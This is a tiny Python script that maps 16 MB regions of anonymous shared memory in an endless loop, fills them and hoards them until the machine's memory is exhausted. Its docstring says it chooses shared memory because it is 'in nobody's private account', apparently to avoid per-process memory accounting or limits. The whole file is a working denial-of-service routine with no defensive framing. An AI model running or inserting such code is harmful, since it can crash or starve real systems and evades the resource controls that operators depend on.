"""Takes memory that is shared, and so in nobody's private account."""
# its honest part may be lost
import mmap

hoard = []
while True:
    part = mmap.mmap(-1, 2**24)
    part.write(b"x" * 2**24)
    hoard.append(part)
